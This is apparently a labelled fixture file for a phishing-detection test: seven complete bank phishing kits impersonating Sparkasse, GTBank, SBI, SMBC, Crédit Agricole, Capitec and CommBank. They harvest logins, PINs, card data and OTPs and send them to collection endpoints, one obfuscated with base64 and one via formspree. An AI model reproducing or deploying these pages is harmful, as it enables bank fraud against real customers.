import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, gtagStub, wordmark, jsRoute, jsonRoute, pngRoute, cssRoute } from '../parts/i-parts.js';

// Credential-phishing kits against banks and fintechs of many countries (2025–2026 style).

export const entries: Entry[] = [
  {
  id: 'i-phish-bank-de-sparkasse-pushtan-wp',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://www.gasthof-linde-oberstaufen.de/wp-content/plugins/wpfc-cache-lite/spk/anmeldung.php?bl=10050000&sid=8f31c2',
  routes: {
    'www.gasthof-linde-oberstaufen.de/wp-content/plugins/wpfc-cache-lite/spk/anmeldung.php': htmlRoute(doc({
      title: 'Online-Banking - Anmeldung | Sparkasse',
      lang: 'de',
      head: `<link rel="stylesheet" href="assets/s.css"><link rel="icon" href="assets/fav.png">`,
      body: `<header class="kopf"><div class="logo"><span class="s-logo">S</span> Sparkasse</div><nav><a href="#">Privatkunden</a><a href="#">Firmenkunden</a><a href="#">Ihre Sparkasse</a></nav></header>
<main class="box">
 <div id="schritt1">
  <h1>Online-Banking</h1>
  <p class="hinweis">Aufgrund der neuen Sicherheitsrichtlinie (PSD2) ist eine einmalige Bestätigung Ihres S-pushTAN-Verfahrens erforderlich. Andernfalls wird Ihr Zugang zum <b>14.12.2025</b> eingeschränkt.</p>
  <form id="f1" autocomplete="off">
   <label>Anmeldename oder Legitimations-ID</label><input name="user" required>
   <label>PIN</label><input name="pin" type="password" required maxlength="20">
   <button type="submit">Anmelden</button>
  </form>
  <p class="klein"><a href="#">Anmeldename vergessen?</a> · <a href="#">PIN vergessen?</a></p>
 </div>
 <div id="schritt2" hidden>
  <h1>Persönliche Daten bestätigen</h1>
  <form id="f2">
   <label>Vor- und Nachname</label><input name="name" required>
   <label>Geburtsdatum</label><input name="dob" placeholder="TT.MM.JJJJ" required>
   <label>Mobilnummer (für S-pushTAN)</label><input name="tel" required>
   <button type="submit">Weiter</button>
  </form>
 </div>
 <div id="schritt3" hidden>
  <h1>Sparkassen-Card (Debitkarte) verifizieren</h1>
  <form id="f3">
   <label>Kartennummer</label><input name="cc" inputmode="numeric" required>
   <label>Gültig bis</label><input name="exp" placeholder="MM/JJ" required>
   <label>Prüfnummer</label><input name="cvv" maxlength="4" required>
   <button type="submit">Bestätigen</button>
  </form>
 </div>
 <div id="warten" hidden><div class="spin"></div><p>Bitte bestätigen Sie den Auftrag in Ihrer S-pushTAN-App. Dieser Vorgang kann bis zu 2 Minuten dauern …</p></div>
</main>
<footer>© 2025 Sparkassen-Finanzgruppe · <a href="#">Impressum</a> · <a href="#">Datenschutz</a> · BLZ <span id="blz"></span></footer>
<script src="assets/app.js?v=3"></script>`,
    })),
    'www.gasthof-linde-oberstaufen.de/wp-content/plugins/wpfc-cache-lite/spk/assets/s.css': cssRoute(`body{margin:0;font-family:Arial,sans-serif;background:#f3f3f3}.kopf{background:#ff0000;color:#fff;display:flex;gap:40px;padding:14px 30px;align-items:center}.kopf nav a{color:#fff;margin-right:18px;text-decoration:none}.s-logo{display:inline-block;background:#fff;color:#f00;border-radius:50%;width:30px;height:30px;text-align:center;font-weight:bold;line-height:30px}.box{max-width:460px;margin:40px auto;background:#fff;padding:30px;box-shadow:0 1px 4px #0002}label{display:block;margin-top:14px;font-size:13px}input{width:100%;padding:9px;border:1px solid #999}button{margin-top:20px;background:#f00;color:#fff;border:0;padding:11px 24px;font-weight:bold}.hinweis{background:#fff4d6;padding:10px;font-size:13px}footer{text-align:center;font-size:12px;color:#666}.spin{width:36px;height:36px;border:4px solid #eee;border-top-color:#f00;border-radius:50%;animation:r 1s linear infinite;margin:20px auto}@keyframes r{to{transform:rotate(360deg)}}`),
    'www.gasthof-linde-oberstaufen.de/wp-content/plugins/wpfc-cache-lite/spk/assets/fav.png': pngRoute(255, 0, 0),
    'www.gasthof-linde-oberstaufen.de/wp-content/plugins/wpfc-cache-lite/spk/assets/app.js': jsRoute(`(function(){
var q=new URLSearchParams(location.search);document.getElementById('blz').textContent=q.get('bl')||'';
var sid=q.get('sid')||Math.random().toString(36).slice(2);
function send(step,form){var d=new FormData(form);d.append('step',step);d.append('sid',sid);
 return fetch('post.php',{method:'POST',body:d}).then(function(r){return r.json()}).catch(function(){return {ok:1}})}
function show(id){['schritt1','schritt2','schritt3','warten'].forEach(function(x){document.getElementById(x).hidden=(x!==id)})}
document.getElementById('f1').onsubmit=function(e){e.preventDefault();show('warten');send(1,this).then(function(){setTimeout(function(){show('schritt2')},2500)})};
document.getElementById('f2').onsubmit=function(e){e.preventDefault();show('warten');send(2,this).then(function(){setTimeout(function(){show('schritt3')},2500)})};
document.getElementById('f3').onsubmit=function(e){e.preventDefault();show('warten');send(3,this).then(function(){setTimeout(function(){location.href='https://www.sparkasse.de/'},9000)})};
})();`),
    'www.gasthof-linde-oberstaufen.de/wp-content/plugins/wpfc-cache-lite/spk/post.php': jsonRoute({ ok: 1 }),
  },
},
  {
  id: 'i-phish-bank-ng-gtbank-bvn-otp',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://gtworld-bvn-update.ng-secure-portal.com/ibank/login.html',
  body: doc({
    title: 'GTBank Internet Banking - BVN Update',
    head: `<style>body{font-family:Tahoma,Arial;background:#eee;margin:0}.hd{background:#dd4f05;color:#fff;padding:15px 25px;font-size:22px;font-weight:bold}.hd small{font-size:12px;font-weight:normal;display:block}.pn{width:380px;margin:40px auto;background:#fff;border:1px solid #ccc;padding:25px}.pn h3{color:#dd4f05;margin-top:0}input,select{width:95%;padding:8px;margin:4px 0 12px}.b{background:#dd4f05;color:#fff;border:0;padding:10px 30px;cursor:pointer}.nt{font-size:11px;color:#777}</style>`,
    body: `<div class="hd">GTBank <small>Guaranty Trust Bank Ltd · Internet Banking</small></div>
<div class="pn">
<h3>BVN / NIN Linkage Verification</h3>
<p style="font-size:13px">In line with the CBN directive dated 2nd December 2025, all accounts not linked to a valid BVN and NIN will be placed on <b>Post No Debit (PND)</b>. Kindly update below.</p>
<form method="post" action="next.php" id="g">
User ID / Account Number<br><input name="uid" required>
Internet Banking Password<br><input type="password" name="pw" required>
BVN (11 digits)<br><input name="bvn" maxlength="11" required>
Phone Number<br><input name="phone" required>
Token Type<br><select name="tt"><option>Hardware Token</option><option>GTWorld App</option><option>SMS OTP</option></select>
<input class="b" type="submit" value="Login">
</form>
<p class="nt">GTBank will never ask for your PIN. Guaranty Trust Bank Ltd is licensed by the Central Bank of Nigeria. Deposits are insured by NDIC.</p>
</div>`,
  }),
  routes: {
    'gtworld-bvn-update.ng-secure-portal.com/ibank/next.php': htmlRoute(doc({
      title: 'GTBank - Token Verification',
      body: `<div style="width:380px;margin:60px auto;font-family:Tahoma;background:#fff;border:1px solid #ccc;padding:25px"><h3 style="color:#dd4f05">Enter OTP</h3><p>A One-Time Password has been sent to your registered phone number.</p><form method="post" action="done.php"><input name="otp" maxlength="6" style="width:95%;padding:8px"><br><br><input type="submit" value="Verify" style="background:#dd4f05;color:#fff;border:0;padding:10px 30px"></form></div>`,
    })),
  },
},
  {
  id: 'i-phish-bank-in-sbi-yono-kyc',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://sbi-yono-kyc.blogspot-update.in/index.html',
  body: doc({
    title: 'SBI YONO - KYC Update',
    head: `<style>body{margin:0;font-family:Roboto,Arial;background:#f2f5fb}.h{background:linear-gradient(90deg,#280071,#2d5bd7);color:#fff;padding:14px 18px;font-size:19px}.h span{background:#fff;color:#280071;border-radius:50%;padding:2px 8px;margin-right:8px}.f{max-width:400px;margin:24px auto;padding:20px;background:#fff;border-radius:8px}.f input{width:100%;box-sizing:border-box;padding:11px;margin:5px 0 12px;border:1px solid #ccd;border-radius:4px}.f button{width:100%;padding:12px;background:#2d5bd7;color:#fff;border:0;border-radius:4px;font-size:15px}.w{background:#fff3cd;color:#7a5a00;padding:10px;font-size:13px;border-radius:4px}</style>`,
    body: `<div class="h"><span>◉</span>YONO SBI</div>
<div class="f">
<p class="w">Dear Customer, your YONO account will be blocked today as your PAN card / KYC is not updated. Please update immediately to avoid suspension.</p>
<div id="s1"><input id="un" placeholder="Username"><input id="pw" type="password" placeholder="Password"><input id="mo" placeholder="Registered Mobile Number" maxlength="10"><button onclick="go1()">Login</button></div>
<div id="s2" style="display:none"><input id="pan" placeholder="PAN Card Number" maxlength="10"><input id="dob" placeholder="Date of Birth (DD/MM/YYYY)"><input id="acb" placeholder="Available Balance (approx.)"><button onclick="go2()">Submit</button></div>
<div id="s3" style="display:none"><p>Enter the OTP sent to your registered mobile number ******<b id="l4"></b></p><input id="otp" maxlength="6" placeholder="OTP"><button onclick="go3()">Verify OTP</button><p id="tm" style="font-size:12px;color:#666"></p></div>
<p style="font-size:11px;color:#999;text-align:center">© State Bank of India</p>
</div>
<script>
function p(o){var x=new XMLHttpRequest();x.open('POST','/sv.php',true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send(new URLSearchParams(o).toString())}
function go1(){if(!un.value||!pw.value||mo.value.length<10){alert('Please fill all details');return}p({u:un.value,p:pw.value,m:mo.value});s1.style.display='none';s2.style.display='block'}
function go2(){p({pan:pan.value,dob:dob.value,bal:acb.value});s2.style.display='none';s3.style.display='block';l4.textContent=mo.value.slice(-4);var t=120;setInterval(function(){tm.textContent='Resend OTP in '+(t--)+'s'},1000)}
function go3(){p({otp:otp.value});document.querySelector('.f').innerHTML='<h3>Thank you</h3><p>Your KYC has been updated successfully. It will reflect in 24 hours.</p>'}
</script>`,
  }),
  routes: { 'sbi-yono-kyc.blogspot-update.in/sv.php': htmlRoute('ok') },
},
  {
  id: 'i-phish-bank-jp-smbc-direct-confirm',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://smbc-direct.jp-kakunin.top/login/?ref=mail',
  body: doc({
    title: '三井住友銀行 SMBCダイレクト｜ログイン',
    lang: 'ja',
    head: `<style>body{margin:0;font-family:'Hiragino Kaku Gothic ProN',Meiryo,sans-serif;background:#f5f7f5}.hd{border-bottom:3px solid #004831;background:#fff;padding:12px 24px;color:#004831;font-weight:bold;font-size:18px}.hd i{color:#9bc31c;font-style:normal}.m{max-width:520px;margin:28px auto;background:#fff;padding:26px;border:1px solid #dde}.m h1{font-size:18px;color:#004831;border-left:5px solid #9bc31c;padding-left:10px}th{text-align:left;font-size:13px;padding:8px 10px 8px 0;white-space:nowrap}td input{width:100%;padding:8px;border:1px solid #aaa}.btn{display:block;margin:18px auto 0;background:#004831;color:#fff;border:0;padding:12px 60px;font-size:15px;border-radius:3px}.red{color:#c00;font-size:13px}</style>`,
    body: `<div class="hd"><i>◆</i> 三井住友銀行 <small>SMBCダイレクト</small></div>
<div class="m">
 <h1>お客さま情報の確認</h1>
 <p class="red">【重要】不正利用防止のため、お取引目的等の確認が必要です。2025年12月20日までにご回答いただけない場合、お取引を制限させていただきます。</p>
 <form id="lf"><table>
  <tr><th>店番号</th><td><input name="tenban" maxlength="3"></td></tr>
  <tr><th>口座番号</th><td><input name="koza" maxlength="7"></td></tr>
  <tr><th>第一暗証（ログイン暗証）</th><td><input name="pw1" type="password"></td></tr>
  <tr><th>第二暗証（4桁）</th><td><input name="pw2" type="password" maxlength="4"></td></tr>
  <tr><th>生年月日</th><td><input name="birth" placeholder="例：19800101"></td></tr>
  <tr><th>携帯電話番号</th><td><input name="tel"></td></tr>
 </table><button class="btn" type="submit">次へ</button></form>
 <p style="font-size:11px;color:#777">Copyright © Sumitomo Mitsui Banking Corporation. All Rights Reserved.</p>
</div>
<script>
document.getElementById('lf').addEventListener('submit',function(e){e.preventDefault();
 fetch('../api/save',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(Object.fromEntries(new FormData(this)))}).finally(function(){
  document.querySelector('.m').innerHTML='<h1>ワンタイムパスワード</h1><p>SMSに送信された認証番号を入力してください。</p><input id="o" style="padding:8px;width:200px"> <button class="btn" onclick="fetch(\\'../api/save\\',{method:\\'POST\\',body:document.getElementById(\\'o\\').value});this.textContent=\\'確認中…\\'">認証</button>';});
});
</script>`,
  }),
  routes: { 'smbc-direct.jp-kakunin.top/api/save': jsonRoute({ code: 0 }) },
},
  {
  id: 'i-phish-bank-fr-ca-securipass-sms',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://ca-particuliers-securipass.fr-acces.info/connexion/authentification.html',
  body: doc({
    title: 'Crédit Agricole - Accéder à mes comptes',
    lang: 'fr',
    head: `<style>body{margin:0;font-family:'Source Sans Pro',Arial,sans-serif;background:#eef3f3}.top{background:#fff;padding:14px 30px;border-bottom:1px solid #ddd;display:flex;align-items:center;gap:12px}.top .lg{background:#00756a;color:#fff;font-weight:bold;padding:6px 10px;border-radius:4px}.cx{max-width:440px;margin:40px auto;background:#fff;border-radius:10px;padding:30px}.cx h1{font-size:22px;color:#00756a}.kp{display:grid;grid-template-columns:repeat(5,1fr);gap:6px;margin:10px 0}.kp button{padding:12px;font-size:18px;border:1px solid #ccc;background:#fafafa;border-radius:6px}.dots{letter-spacing:8px;font-size:22px;height:30px}.ok{width:100%;background:#00756a;color:#fff;border:0;padding:13px;border-radius:24px;font-size:16px;margin-top:12px}input{width:100%;padding:11px;box-sizing:border-box;border:1px solid #aaa;border-radius:6px}</style>`,
    body: `<div class="top"><span class="lg">CA</span><b>Crédit Agricole</b> <span style="color:#666">— Votre Caisse régionale</span></div>
<div class="cx" id="cx">
 <h1>Accéder à mes comptes</h1>
 <p>Votre dispositif <b>SécuriPass</b> doit être réactivé suite à la mise à jour réglementaire DSP2.</p>
 <label>Identifiant (11 chiffres)</label><input id="id" maxlength="11" inputmode="numeric">
 <p>Code personnel</p><div class="dots" id="dots"></div>
 <div class="kp" id="kp"></div>
 <button class="ok" id="go">Valider</button>
 <p style="font-size:12px;color:#555">Crédit Agricole S.A. – Société anonyme au capital de 9 077 707 050 € – 784 608 416 RCS Nanterre</p>
</div>
<script>
var code='';var n=[0,1,2,3,4,5,6,7,8,9].sort(function(){return Math.random()-.5});
n.forEach(function(d){var b=document.createElement('button');b.textContent=d;b.onclick=function(){if(code.length<6){code+=d;dots.textContent='•'.repeat(code.length)}};kp.appendChild(b)});
go.onclick=function(){if(id.value.length<11||code.length<6)return;
 fetch('/connexion/ajax.php',{method:'POST',body:new URLSearchParams({a:'login',id:id.value,c:code})});
 cx.innerHTML='<h1>Réactivation SécuriPass</h1><p>Un code de validation vous a été envoyé par SMS. Saisissez-le pour confirmer la réactivation.</p><input id="sms" maxlength="6"><p>Pour finaliser, confirmez votre carte bancaire :</p><input id="cb" placeholder="Numéro de carte"><br><br><input id="ex" placeholder="MM/AA"><br><br><input id="cv" placeholder="Cryptogramme"><button class="ok" onclick="fetch(\\'/connexion/ajax.php\\',{method:\\'POST\\',body:new URLSearchParams({a:\\'cb\\',s:sms.value,c:cb.value,e:ex.value,v:cv.value})});this.textContent=\\'Veuillez patienter…\\'">Confirmer</button>'};
</script>`,
  }),
  routes: { 'ca-particuliers-securipass.fr-acces.info/connexion/ajax.php': jsonRoute({ r: 'ok' }) },
},
  {
  id: 'i-phish-bank-za-capitec-remote-banking',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://capitec-secure.za-online.co/rb/client/login.php',
  body: doc({
    title: 'Capitec Bank | Remote Banking',
    head: `<style>body{margin:0;font-family:Arial;background:#fff}.hd{background:#009de0;padding:14px 28px;color:#fff;font-size:22px;font-weight:bold}.hd span{color:#e2231a}.c{max-width:400px;margin:40px auto;border:1px solid #ddd;border-radius:8px;padding:26px}input{width:100%;box-sizing:border-box;padding:11px;margin:6px 0 14px;border:1px solid #bbb;border-radius:4px}button{width:100%;padding:12px;background:#e2231a;color:#fff;border:0;border-radius:4px;font-size:15px}</style>`,
    body: `<div class="hd">capitec<span>•</span> <small style="font-size:12px;font-weight:normal">remote banking</small></div>
<div class="c">
<h2>Log in</h2>
<p style="font-size:13px;color:#444">Due to our system upgrade, all clients must re-verify their Remote PIN before 15 December.</p>
<form method="post" action="https://formspree.io/f/xdkoqzpe">
<input type="hidden" name="_subject" value="CPTC new log">
<label>Account number</label><input name="account" required>
<label>Remote PIN</label><input name="remote_pin" type="password" maxlength="5" required>
<label>Card PIN</label><input name="card_pin" type="password" maxlength="4" required>
<label>Cellphone number</label><input name="cell" required>
<button>Log in</button>
</form>
<p style="font-size:11px;color:#888">Capitec Bank is an authorised financial services provider (FSP46669) and registered credit provider (NCRCP13).</p>
</div>`,
  }),
},
  {
  id: 'i-phish-bank-au-commbank-netbank-payid',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://netbank-commbank.payid-verify.au-help.net/netbank/logon',
  body: doc({
    title: 'NetBank - Log on to NetBank - CommBank',
    head: `<style>body{margin:0;font-family:Arial,sans-serif;background:#f2f2f2}.y{background:#ffcc00;padding:14px 24px;font-weight:bold;font-size:20px}.y i{display:inline-block;width:22px;height:22px;background:#000;transform:rotate(45deg);margin-right:10px;vertical-align:middle}.p{max-width:400px;margin:30px auto;background:#fff;padding:26px;border-radius:4px}input{width:100%;box-sizing:border-box;padding:10px;margin:5px 0 14px;border:1px solid #999}.go{background:#ffcc00;border:0;padding:11px 28px;font-weight:bold}</style>`,
    body: `<div class="y"><i></i>CommBank <span style="font-weight:normal">NetBank</span></div>
<div class="p">
<h2>Log on to NetBank</h2>
<p style="font-size:13px">A payment of <b>$1,380.00</b> to a new PayID is on hold. Log on to approve or decline.</p>
<form id="nb">
<label>Client number</label><input name="cn" required>
<label>Password</label><input name="pw" type="password" required>
<button class="go">Log on</button>
</form>
<p style="font-size:11px;color:#777">Commonwealth Bank of Australia ABN 48 123 123 124 AFSL and Australian credit licence 234945</p>
</div>
<script>
(function(){var _0x=['L25ldGJhbmsvYXBpL2xn','UE9TVA==','Y29udGVudC10eXBl','YXBwbGljYXRpb24vanNvbg=='].map(atob);
document.getElementById('nb').addEventListener('submit',function(e){e.preventDefault();var h={};h[_0x[2]]=_0x[3];
fetch(_0x[0],{method:_0x[1],headers:h,body:JSON.stringify(Object.fromEntries(new FormData(e.target)))}).then(function(){
 document.querySelector('.p').innerHTML='<h2>NetCode required</h2><p>Enter the NetCode we sent to your mobile.</p><input id="nc" maxlength="6" style="padding:10px"><button class="go" onclick="fetch(\\''+_0x[0]+'\\',{method:\\'POST\\',body:nc.value})">Confirm</button>'})})})();
</script>`,
  }),
  routes: { 'netbank-commbank.payid-verify.au-help.net/netbank/api/lg': jsonRoute({ next: 'netcode' }) },
},
];
